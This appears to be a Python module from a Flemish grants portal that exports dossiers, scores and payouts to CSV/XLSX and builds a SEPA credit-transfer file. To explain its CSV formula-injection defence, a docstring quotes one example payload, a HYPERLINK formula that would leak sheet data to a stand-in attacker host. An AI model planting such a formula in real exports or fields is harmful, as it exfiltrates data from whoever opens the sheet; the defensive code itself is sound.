"""Exports for officers and finance (dossiers, scores, payouts as CSV or XLSX) and the SEPA transfer file.

Service layer: it only reads rows (the payment batch, portal/services/payment_batches.py, stores the
SEPA file this module builds); it never commits and never reads the request. States, kinds and exchange types are
exported in words in the reader's language (`Toegekend`), and states once more as the portal's stable codes
(`granted`) in a column of their own, so that filters and formulas in a spreadsheet keep working whatever the
language. Every dataset can be narrowed to one call.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from decimal import ROUND_HALF_UP, Decimal
from fractions import Fraction
from typing import Any

from flask import current_app
from flask_babel import gettext as _
from sepaxml import SepaTransfer
from sqlalchemy import ColumnElement, Row, func, select
from sqlalchemy.orm import aliased, contains_eager, selectinload

from portal.extensions import db
from portal.i18n import language_code
from portal.labels import exchange_label, payout_kind, payout_state, state_label
from portal.models import Application, Call, Organisation, Payout, Reservation, Review, User
from portal.services import reference as reference_data
from portal.services import reviews
from workflows.calls import BRUSSELS
from workflows.money import cents_to_decimal, format_belgian
from workflows.payouts import PayoutKind, PayoutState
from workflows.scoring import DossierScore, check_scores, weighted_total


@dataclass(frozen=True)
class Cents:
    """An amount in cents: a number in XLSX, `1.234,56` in CSV, never escaped (we write it ourselves)."""

    value: int


# A cell: text (escaped in CSV, a text cell in XLSX), a whole number, an amount, a decimal (a mean score) or nothing.
Cell = str | int | Cents | Decimal | None
Table = tuple[list[str], list[list[Cell]]]


# --- formula injection -------------------------------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(text: str) -> str:
    """CSV text as a spreadsheet shows it, never as a formula it runs.

    Excel and LibreOffice read a CSV field that starts with `=`, `+`, `-` or `@` (also after a tab
    or a carriage return) as a formula: a government name or a reviewer's comment such as
    `=HYPERLINK("https://evil.example?"&A1)` would run on the officer's machine and could leak the
    sheet (CSV/formula injection, OWASP). A leading apostrophe makes the field plain text. Not for
    XLSX: there a cell's type says it is text, and an apostrophe would only change what was typed.
    """
    return "'" + text if text.startswith(FORMULA_STARTS) else text


# --- the datasets ------------------------------------------------------------------------------


def _moment(value: datetime | None) -> str | None:
    return value.astimezone(BRUSSELS).strftime("%Y-%m-%d %H:%M") if value is not None else None


def _day(value: date | None) -> str | None:
    return value.isoformat() if value is not None else None


def dossier_rows(*conditions: ColumnElement[bool], order_by: Sequence[Any]) -> Sequence[Row[Any]]:
    """Submitted dossiers with their parties and money, one query (joins, no lazy loads); a row's fields by name:
    reference, call_code, state, giving_name, giving_nis, receiving_name, receiving_nis, province, exchange_type,
    theme_codes, submitted_at, decided_at, requested, reserved, committed, paid (no reservation row: 0)."""
    giving = aliased(Organisation, name="giving")
    receiving = aliased(Organisation, name="receiving")
    return db.session.execute(
        select(
            Application.reference,
            Call.code.label("call_code"),
            Application.state,
            giving.name.label("giving_name"),
            giving.nis_code.label("giving_nis"),
            receiving.name.label("receiving_name"),
            receiving.nis_code.label("receiving_nis"),
            giving.province_name.label("province"),
            Application.exchange_type,
            Application.theme_codes,
            Application.submitted_at,
            Application.decided_at,
            func.coalesce(Application.requested_cents, 0).label("requested"),
            func.coalesce(Reservation.reserved_cents, 0).label("reserved"),
            func.coalesce(Reservation.committed_cents, 0).label("committed"),
            func.coalesce(Reservation.paid_cents, 0).label("paid"),
        )
        .join(Call, Call.id == Application.call_id)
        .join(giving, giving.id == Application.organisation_id)
        .outerjoin(receiving, receiving.id == Application.receiving_organisation_id)
        .outerjoin(Reservation, Reservation.application_id == Application.id)
        .where(Application.submitted_at.is_not(None), *conditions)
        .order_by(*order_by)
    ).all()


def dossiers_table(call_id: int | None = None) -> Table:
    """Every submitted dossier with its parties and its money."""
    rows = dossier_rows(
        *([Call.id == call_id] if call_id is not None else []), order_by=(Call.code, Application.queue_number)
    )
    headers = [
        _("Referentie"), _("Oproep"), _("Status"), _("Statuscode"), _("Gevend bestuur"), _("NIS-code gevend bestuur"),
        _("Ontvangend bestuur"), _("NIS-code ontvangend bestuur"), _("Provincie gevend bestuur"), _("Vorm"),
        _("Thema's"), _("Ingediend op"), _("Gevraagd"), _("Gereserveerd"), _("Vastgelegd"), _("Betaald"),
        _("Openstaand"),
    ]  # fmt: skip
    theme_names = dict(reference_data.theme_names(language_code()))
    table: list[list[Cell]] = []
    for r in rows:
        table.append([
            r.reference, r.call_code, state_label(r.state), r.state, r.giving_name, r.giving_nis, r.receiving_name,
            r.receiving_nis, r.province, exchange_label(r.exchange_type),
            "; ".join(theme_names.get(code, code) for code in r.theme_codes or []), _moment(r.submitted_at),
            Cents(r.requested), Cents(r.reserved), Cents(r.committed), Cents(r.paid), Cents(r.committed - r.paid),
        ])  # fmt: skip
    return headers, table


def _two_places(value: Fraction) -> Decimal:
    exact = Decimal(value.numerator) / Decimal(value.denominator)
    return exact.quantize(Decimal("0.01"), rounding=ROUND_HALF_UP)


def scores_table(call_id: int | None = None) -> Table:
    """One row per criterion score of every submitted review (the long layout: any rubric fits).

    Columns: the dossier's reference and call, the reviewer, when the review was submitted, the
    criterion's code (its name may be edited later, the code stays), the score and its comment, the
    review's general comment and weighted total, then the dossier's figures from its submitted reviews
    (`reviews.score_of`): the mean weighted total, that mean as a percentage of the range, and whether
    the dossier passes (threshold and minimum scores). Rows follow the call's rubric order; a score of a
    criterion removed from the rubric since comes last and has no weighted total in it.
    """
    submitted = db.session.scalars(
        select(Review)
        .join(Review.application)
        .join(Application.call)
        .join(Review.reviewer)
        .where(Review.submitted_at.is_not(None), *([Application.call_id == call_id] if call_id is not None else []))
        .options(
            contains_eager(Review.application).contains_eager(Application.call).selectinload(Call.criteria),
            contains_eager(Review.reviewer),
            selectinload(Review.scores),
        )
        .order_by(Call.code, Application.queue_number, Review.submitted_at, Review.id)
    ).all()
    headers = [
        _("Referentie"), _("Oproep"), _("Beoordelaar"), _("Ingediend op"), _("Criterium"), _("Score"),
        _("Commentaar bij het criterium"), _("Algemene commentaar"), _("Gewogen totaal van de beoordeling"),
        _("Gemiddeld gewogen totaal van het dossier"), _("Dossier (% van het bereik)"),
        _("Haalt de kwaliteitsdrempel en de minimumscores"),
    ]  # fmt: skip
    # The dossier's score asks reviews.score_of (one query per dossier), the one source of that rule.
    dossier_scores: dict[int, DossierScore | None] = {}
    table: list[list[Cell]] = []
    for review in submitted:
        application = review.application
        if application.id not in dossier_scores:
            dossier_scores[application.id] = reviews.score_of(application)
        dossier = dossier_scores[application.id]
        rubric = reviews.rubric_of(application.call)
        order = {c.code: i for i, c in enumerate(rubric.criteria)}
        values = {code: v for code, v in review.score_values().items() if code in order}
        total = weighted_total(rubric, values) if not check_scores(rubric, dict(values)) else None
        dossier_cells: list[Cell] = (
            [_two_places(dossier.mean_total), _two_places(dossier.percent), _("ja") if dossier.passes else _("nee")]
            if dossier is not None
            else [None, None, None]
        )
        for score in sorted(review.scores, key=lambda s: (order.get(s.criterion_code, len(order)), s.criterion_code)):
            table.append([
                application.reference, application.call.code, review.reviewer.full_name, _moment(review.submitted_at),
                score.criterion_code, score.score, score.comment, review.comment, total, *dossier_cells,
            ])  # fmt: skip
    return headers, table


def payouts_table(call_id: int | None = None) -> Table:
    """Every payout (also planned, failed and cancelled ones) with who prepared and approved it."""
    preparer = aliased(User, name="preparer")
    approver = aliased(User, name="approver")
    found = db.session.scalars(
        select(Payout)
        .join(Payout.application)
        .join(Application.organisation)
        .join(preparer, Payout.prepared_by)
        .outerjoin(approver, Payout.approved_by)
        .where(*([Application.call_id == call_id] if call_id is not None else []))
        .options(
            contains_eager(Payout.application).contains_eager(Application.organisation),
            contains_eager(Payout.prepared_by.of_type(preparer)),
            contains_eager(Payout.approved_by.of_type(approver)),
        )
        .order_by(Payout.prepared_at, Payout.id)
    ).all()
    headers = [
        _("Nummer"), _("Referentie voor de bank"), _("Dossier"), _("Gevend bestuur"), _("Soort"), _("Status"),
        _("Statuscode"), _("Bedrag"), _("IBAN"), _("Voorbereid door"), _("Voorbereid op"), _("Goedgekeurd door"), _("Goedgekeurd op"),
        _("Betaald op"), _("Bankreferentie"),
    ]  # fmt: skip
    return headers, [_payout_row(p) for p in found]


def _payout_row(p: Payout) -> list[Cell]:
    return [
        p.id, p.end_to_end_id, p.application.reference, p.application.organisation.name, payout_kind(p.kind),
        payout_state(p.state), p.state, Cents(p.amount_cents), p.iban, p.prepared_by.full_name, _moment(p.prepared_at),
        p.approved_by.full_name if p.approved_by else None, _moment(p.approved_at), _day(p.paid_on), p.bank_reference,
    ]  # fmt: skip


DATASETS: dict[str, Callable[[int | None], Table]] = {
    "dossiers": dossiers_table,
    "scores": scores_table,
    "payouts": payouts_table,
}


# --- the formats -------------------------------------------------------------------------------


def _csv_text(cell: Cell) -> str:
    if cell is None:
        return ""
    if isinstance(cell, Cents):
        return format_belgian(cell.value)
    if isinstance(cell, Decimal):
        return str(cell).replace(".", ",")
    if isinstance(cell, int):
        return str(cell)
    return neutralise(cell)


def to_csv(table: Table) -> bytes:
    """`;`-separated, UTF-8 with a BOM and CRLF line ends: what Excel in nl-BE opens without asking."""
    headers, rows = table
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerow([neutralise(h) for h in headers])
    writer.writerows([_csv_text(cell) for cell in row] for row in rows)
    return out.getvalue().encode("utf-8-sig")


AMOUNT_FORMAT = "#,##0.00"
MAX_WIDTH = 60


def _write_text(cell: Any, text: str) -> None:
    """Text exactly as typed (`+32 475 12 34 56` stays that), stored as a text cell that no
    spreadsheet runs."""
    # openpyxl on first use, as in to_xlsx: the worker never writes a sheet.
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    # openpyxl refuses control characters XML cannot hold; typed text may contain them.
    cell.value = ILLEGAL_CHARACTERS_RE.sub("", text)
    # openpyxl takes a str starting with "=" for a formula unless the type is set after the value.
    cell.data_type = "s"
    if text.startswith(FORMULA_STARTS):
        # Excel's own mark for text typed after an apostrophe: editing the cell keeps it text.
        cell.quotePrefix = True


def to_xlsx(table: Table, title: str) -> bytes:
    """One sheet with a bold, frozen header row; amounts as numbers, text always stored as text."""
    # openpyxl is loaded on the first export, not with the portal: the worker, which shares these modules,
    # never writes a sheet, and it would carry openpyxl's 20 MiB for nothing (bench/notifications.py).
    from openpyxl import Workbook
    from openpyxl.styles import Font  # on first use (above)
    from openpyxl.utils import get_column_letter  # on first use (above)

    headers, rows = table
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = title[:31]  # Excel's limit for a sheet name
    widths = [len(h) for h in headers]
    for column, header in enumerate(headers, start=1):
        cell = sheet.cell(row=1, column=column)
        _write_text(cell, header)
        cell.font = Font(bold=True)
    for row_number, row in enumerate(rows, start=2):
        for column, value in enumerate(row, start=1):
            cell = sheet.cell(row=row_number, column=column)
            if isinstance(value, Cents):
                cell.value = cents_to_decimal(value.value)
                cell.number_format = AMOUNT_FORMAT
                shown = format_belgian(value.value)
            elif isinstance(value, Decimal):
                cell.value = value
                cell.number_format = "0.00"
                shown = str(value)
            elif isinstance(value, str):
                _write_text(cell, value)
                shown = value
            else:
                cell.value = value
                shown = "" if value is None else str(value)
            widths[column - 1] = max(widths[column - 1], len(shown))
    for column, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(column)].width = min(width + 2, MAX_WIDTH)
    sheet.freeze_panes = "A2"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


# --- the SEPA credit-transfer file -------------------------------------------------------------

# The remittance text the giving government reads on its statement: always Dutch, as its books are.
REMITTANCE_KIND = {PayoutKind.ADVANCE: "voorschot", PayoutKind.BALANCE: "saldo"}


class NothingToTransfer(Exception):
    """No approved advance or balance: a transfer file would be empty (banks refuse those)."""


class DebtorAccountMissing(Exception):
    """The administration's own account (SEPA_DEBTOR_IBAN) is not configured."""


def transferable_payouts() -> list[Payout]:
    """Approved outgoing payouts not yet in a payment file (a recovery is money that comes in)."""
    return list(
        db.session.scalars(
            select(Payout)
            .join(Payout.application)
            .join(Application.organisation)
            .where(Payout.state == PayoutState.APPROVED, Payout.kind.in_(tuple(REMITTANCE_KIND)))
            .options(contains_eager(Payout.application).contains_eager(Application.organisation))
            .order_by(Payout.id)
        )
    )


@dataclass(frozen=True)
class TransferFile:
    message_id: str
    debtor_iban: str
    xml: bytes


def pain001(payouts: Sequence[Payout], execution_date: date) -> TransferFile:
    """A pain.001.001.03 file of the given advances and balances, validated by its XSD.

    The debtor is the administration's account from the configuration; every transfer goes to the
    IBAN recorded on the payout, with its end-to-end id as the reference for both sets of books.
    Pure of side effects: the payment batch stores what this returns.
    """
    chosen = [p for p in payouts if p.kind_enum in REMITTANCE_KIND]
    if not chosen:
        raise NothingToTransfer()
    config = current_app.config
    if not config["SEPA_DEBTOR_IBAN"]:
        raise DebtorAccountMissing()
    debtor = {
        "name": config["SEPA_DEBTOR_NAME"],
        "IBAN": config["SEPA_DEBTOR_IBAN"].replace(" ", "").upper(),
        "batch": True,
        "currency": "EUR",
    }
    if config.get("SEPA_DEBTOR_BIC"):  # optional within SEPA (IBAN only); an empty one would fail the XSD
        debtor["BIC"] = config["SEPA_DEBTOR_BIC"]
    # clean: the bank's character set (accents transliterated, names cut at 70 characters).
    transfer = SepaTransfer(debtor, clean=True)
    for payout in chosen:
        transfer.add_payment(
            {
                "name": payout.application.organisation.name,
                "IBAN": payout.iban,  # stored compact and checked (schwifty) when the dossier was filled in
                "amount": payout.amount_cents,
                "execution_date": execution_date,
                "description": f"{payout.application.reference} {REMITTANCE_KIND[payout.kind_enum]}",
                "endtoend_id": payout.end_to_end_id,
            }
        )
    xml: bytes = transfer.export(validate=True)
    return TransferFile(str(transfer.msg_id), debtor["IBAN"], xml)
